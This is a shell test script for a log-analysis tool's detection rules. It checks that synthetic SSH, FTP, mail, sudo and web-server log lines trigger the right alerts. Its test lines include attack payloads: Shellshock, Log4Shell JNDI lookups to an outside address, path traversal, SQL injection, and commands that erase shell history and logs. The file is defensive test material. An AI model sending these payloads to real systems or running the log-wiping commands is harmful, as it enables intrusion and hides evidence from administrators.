# SPDX-License-Identifier: GPL-3.0-or-later
# The built-in rules: what each of them finds, and the honest line beside it.
. ./lib.sh
export TZ=UTC

# finds TITLE and finds_not TITLE: in $TMP/log; also TITLE and also_not TITLE: in the same, too.
look() {
	"$HOLDFAST" hunt -f jsonl --level informational "$TMP/log" >"$TMP/out" 2>"$TMP/notes"
	grep -v '^holdfast: note: ' "$TMP/notes" >"$TMP/err"
}
has() { grep -qF "\"title\":\"$1\"" "$TMP/out"; }
finds() {
	look
	if has "$1" && ! [ -s "$TMP/err" ]; then
		result 0 "finds: $1"
	else
		result 1 "finds: $1"
		show
	fi
}
finds_not() {
	look
	if has "$1" || [ -s "$TMP/err" ]; then
		result 1 "does not find: $1"
		show
	else
		result 0 "does not find: $1"
	fi
}
also() {
	if has "$1"; then result 0 "  also: $1"; else
		result 1 "  also: $1"
		show
	fi
}
also_not() {
	if has "$1"; then
		result 1 "  not: $1"
		show
	else result 0 "  not: $1"; fi
}
# N lines, in which # is the number of the line (two digits): repeat N FORMAT
repeat() {
	i=10
	while [ $i -lt $((10 + $1)) ]; do
		printf '%s\n' "$2" | sed "s/#/$i/g"
		i=$((i + 1))
	done
}
S='Nov 20 10:00:# web1'

exits 0 "all rules are good" hf rules check "$SOURCE/rules"
prints "0 not compiled"
prints_not "another rule"
expect "every rule has an id of its own, a title, a description and a level" python3 -c '
import glob, re, sys
seen, bad = set(), []
for path in glob.glob(sys.argv[1] + "/rules/*/*.yml"):
    text = open(path, encoding="ascii").read()
    if not text.startswith("# SPDX-License-Identifier"):
        bad.append(path)
    for part in re.split(r"^---$", text, flags=re.M):
        one = {k: re.search(r"^%s: *(\S.*)" % k, part, re.M) for k in
               ("title", "id", "name", "status", "description", "author", "level")}
        if not all(one.values()):
            bad.append((path, one["title"], [k for k in one if not one[k]]))
        for k in ("id", "name", "title"):
            value = k + one[k].group(1)
            if value in seen:
                bad.append((path, value))
            seen.add(value)
print(bad)
sys.exit(bool(bad) or len(seen) < 300)' "$SOURCE"

# SSH
{
	repeat 10 "$S sshd[1#]: Connection closed by authenticating user root 203.0.113.5 port 40# [preauth]"
} >"$TMP/log"
finds "Users named by SSH without a login"
repeat 10 "$S sshd[1#]: Did not receive identification string from 203.0.113.5 port 40#" >"$TMP/log"
finds "Connections to SSH without a login"
repeat 35 "$S sshd[1#]: Failed password for invalid user u# from 203.0.113.5 port 40# ssh2" >"$TMP/log"
finds "Brute force by SSH"
also "Password spraying by SSH"
also_not "Password guessing by SSH"
{
	repeat 35 "$S sshd[1#]: Failed password for invalid user u# from 203.0.113.5 port 40# ssh2"
	echo "Nov 20 11:00:00 web1 sshd[9]: Accepted password for bob from 203.0.113.5 port 9 ssh2"
} >"$TMP/log"
finds "Login by SSH from an address that guessed passwords"
also "Login by SSH from an address that tried many accounts"
also_not "Login by SSH after several failures"
{
	echo "Nov 20 11:00:00 web1 sshd[8]: Accepted password for bob from 192.0.2.4 port 9 ssh2"
	echo "Nov 20 11:10:00 web1 sshd[9]: Accepted password for bob from 192.0.2.4 port 9 ssh2"
	echo "Nov 20 11:20:00 web1 sshd[10]: Accepted password for eve from 192.0.2.5 port 9 ssh2"
} >"$TMP/log"
finds_not "First login by SSH of an account from a new network"
{
	echo "Nov 20 11:00:00 web1 sshd[8]: Accepted password for bob from 192.0.2.4 port 9 ssh2"
	echo "Nov 20 11:10:00 web1 sshd[9]: Accepted password for bob from 203.0.113.99 port 9 ssh2"
} >"$TMP/log"
finds "First login by SSH of an account from a new network"
echo "Nov 20 11:00:00 web1 sshd[8]: Accepted publickey for root from 192.0.2.4 port 9 ssh2: ED25519 SHA256:abc" >"$TMP/log"
finds_not "Root logged in by SSH with a password"
also "Root logged in by SSH"
echo "Nov 20 11:00:00 web1 sshd[8]: Accepted password for root from 192.0.2.4 port 9 ssh2" >"$TMP/log"
finds "Root logged in by SSH with a password"
also_not "Root logged in by SSH"
echo "Nov 20 11:00:00 web1 login[8]: ROOT LOGIN  on '/dev/tty1'" >"$TMP/log"
finds "Root logged in at a console"
repeat 6 "$S dropbear[1#]: Bad password attempt for 'root' from 203.0.113.5:40#" >"$TMP/log"
finds "Password guessing by SSH (Dropbear)"

# Other services
repeat 6 "Thu Nov 20 10:00:# 2025 [pid 1#] [alice] FAIL LOGIN: Client \"203.0.113.5\"" >"$TMP/log"
finds "Password guessing by FTP"
{
	repeat 5 "$S vsftpd[1#]: [alice] FAIL LOGIN: Client \"203.0.113.5\""
	echo "Nov 20 10:01:00 web1 vsftpd[1]: [alice] OK LOGIN: Client \"203.0.113.5\""
} >"$TMP/log"
finds "Login by FTP after several failures"
{
	repeat 3 "$S vsftpd[1#]: [alice] FAIL LOGIN: Client \"203.0.113.5\""
	echo "Nov 20 10:01:00 web1 vsftpd[1]: [alice] OK LOGIN: Client \"203.0.113.5\""
} >"$TMP/log"
finds_not "Login by FTP after several failures"
repeat 20 "$S dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<alice>, method=PLAIN, rip=203.0.113.5, lip=192.0.2.1, TLS" >"$TMP/log"
finds "Password guessing to the mail server"
repeat 10 "$S postfix/smtpd[1#]: warning: unknown[203.0.113.5]: SASL LOGIN authentication failed: authentication failure, sasl_username=u#@example.com" >"$TMP/log"
finds "Password spraying to the mail server"
repeat 6 "2025-11-20T10:00:#.000000Z 1# [Note] Access denied for user 'root'@'203.0.113.5' (using password: YES)" >"$TMP/log"
finds "Password guessing to a database"

# Accounts
echo "Nov 20 11:00:00 web1 useradd[8]: new user: name=eve, UID=1001, GID=1001, home=/home/eve, shell=/bin/bash, from=/dev/pts/1" >"$TMP/log"
finds "New local account with a shell"
echo "Nov 20 11:00:00 web1 useradd[8]: new user: name=ntp, UID=111, GID=111, home=/nonexistent, shell=/usr/sbin/nologin, from=none" >"$TMP/log"
finds_not "New local account with a shell"
echo "Nov 20 11:00:00 web1 useradd[8]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1" >"$TMP/log"
finds "New account with the rights of root"
echo "Nov 20 11:00:00 web1 usermod[8]: add 'eve' to group 'sudo'" >"$TMP/log"
finds "Account added to a group of administrators"
echo "Nov 20 11:00:00 web1 usermod[8]: add 'eve' to group 'audio'" >"$TMP/log"
finds_not "Account added to a group of administrators"
echo "Nov 20 11:00:00 web1 sudo:      eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id" >"$TMP/log"
finds "User who may not use sudo tried to"
repeat 2 "$S sudo:      eve : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id" >"$TMP/log"
finds "Password guessing with sudo"
echo "Nov 20 11:00:00 web1 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update" >"$TMP/log"
finds_not "User who may not use sudo tried to"
also_not "Shell history cleared with sudo"
also_not "Logs removed with sudo"

repeat 4 "$S su[1#]: FAILED SU (to root) eve on pts/1" >"$TMP/log"
finds "Password guessing with su"
repeat 3 "$S su[1#]: FAILED SU (to root) eve on pts/1" >"$TMP/log"
finds_not "Password guessing with su"

# Covering tracks
C="Nov 20 11:00:00 web1 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND="
echo "$C/bin/rm -f /root/.bash_history" >"$TMP/log"
finds "Shell history cleared with sudo"
echo "$C/usr/bin/less /home/bob/.bash_history" >"$TMP/log"
finds_not "Shell history cleared with sudo"
echo "$C/usr/bin/rm /var/log/auth.log" >"$TMP/log"
finds "Logs removed with sudo"
echo "$C/usr/bin/rm -rf /var/log/" >"$TMP/log"
finds "Logs removed with sudo"
echo "$C/usr/bin/systemctl stop rsyslog" >"$TMP/log"
finds "Logs removed with sudo"
echo "$C/usr/bin/journalctl --vacuum-time=1s" >"$TMP/log"
finds "Logs removed with sudo"
echo "$C/usr/bin/tail -f /var/log/auth.log" >"$TMP/log"
finds_not "Logs removed with sudo"
echo "$C/usr/bin/systemctl restart nginx" >"$TMP/log"
finds_not "Logs removed with sudo"

# The web
A='[20/Nov/2025:10:00:00 +0000]'
request() { printf '203.0.113.5 - - %s "%s HTTP/1.1" %s 153 "-" "%s"\n' "$A" "$1" "$2" "$3"; }
M='Mozilla/5.0 (X11; Linux x86_64)'
request 'GET /index.html' 200 "$M" >"$TMP/log"
finds_not "Web server searched for secrets and weak pages"
expect "  nothing else but the note, either" sh -c "! grep -v 'lack the Host header' '$TMP/out'"
request 'GET /.env' 404 "$M" >"$TMP/log"
finds "Web server searched for secrets and weak pages"
also_not "File of secrets was handed out"
request 'GET /.git/config' 200 "$M" >"$TMP/log"
finds "File of secrets was handed out"
request 'GET /' 200 'sqlmap/1.7.2#stable (https://sqlmap.org)' >"$TMP/log"
finds "Web server scanned by a known tool"
request 'GET /' 200 '() { :;}; /bin/bash -c id' >"$TMP/log"
finds "Exploit of a web server tried (Shellshock)"
# shellcheck disable=SC2016
request 'GET /?q=${jndi:ldap://203.0.113.9/a}' 200 "$M" >"$TMP/log"
finds "Exploit of a web server tried (Log4Shell)"
# shellcheck disable=SC2016
request 'GET /?q=$%7bjndi:ldap://203.0.113.9/a}' 200 "$M" >"$TMP/log"
finds "Exploit of a web server tried (Log4Shell)"
request 'POST /_search?source=%7B%22script_fields%22:1%7D' 404 "$M" >"$TMP/log"
finds "Exploit of a web server tried (Elasticsearch script execution)"
request 'GET /solr/core/select?q=1&wt=velocity&v.template=custom' 404 "$M" >"$TMP/log"
finds "Exploit of a web server tried (Solr script execution)"
request 'GET /cgi-bin/.%2e/.%2e/etc/passwd' 404 "$M" >"$TMP/log"
finds "Exploit of a web server tried (Path traversal)"
request 'GET /a.php?id=1%20UNION%20SELECT%201,2' 200 "$M" >"$TMP/log"
finds "Exploit of a web server tried (SQL in a request)"
repeat 3 "203.0.113.5 - - [20/Nov/2025:10:00:# +0000] \"GET /wp-login.php?# HTTP/1.1\" 404 153 \"-\" \"$M\"" >"$TMP/log"
finds "Web server searched for content management systems"
repeat 20 "203.0.113.5 - - [20/Nov/2025:10:00:# +0000] \"POST /wp-login.php HTTP/1.1\" 200 153 \"-\" \"$M\"" >"$TMP/log"
finds "Password guessing at a content management system"
repeat 30 "203.0.113.5 - - [20/Nov/2025:10:00:# +0000] \"GET /page# HTTP/1.1\" 404 153 \"-\" \"$M\"" >"$TMP/log"
finds "Web server searched for pages"
repeat 30 "203.0.113.5 - - [20/Nov/2025:10:00:# +0000] \"GET /page HTTP/1.1\" 404 153 \"-\" \"$M\"" >"$TMP/log"
finds_not "Web server searched for pages"
iis() {
	printf '#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n'
	printf '#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status%s\n' "$1"
	printf '2025-11-20 10:00:00 203.0.113.5 GET / - 200%s\n' "$2"
}
iis ' cs-host' ' 198.51.100.7' >"$TMP/log"
finds "Web server asked by its address"
iis ' cs-host' ' [2001:db8::1]:443' >"$TMP/log"
finds "Web server asked by its address"
iis ' cs-host' ' -' >"$TMP/log"
finds "Web server asked by its address"
iis ' cs-host' ' www.example.com' >"$TMP/log"
finds_not "Web server asked by its address"
also_not "Logs of IIS lack the Host header"
iis '' '' >"$TMP/log"
finds_not "Web server asked by its address"
also "Logs of IIS lack the Host header"
echo '{"time":"2025-11-20T10:00:00Z","remote_addr":"203.0.113.5","request_method":"GET","uri":"/","status":200,"host":"198.51.100.7","http_user_agent":"curl/8"}' >"$TMP/log"
finds "Web server asked by its address"
finish
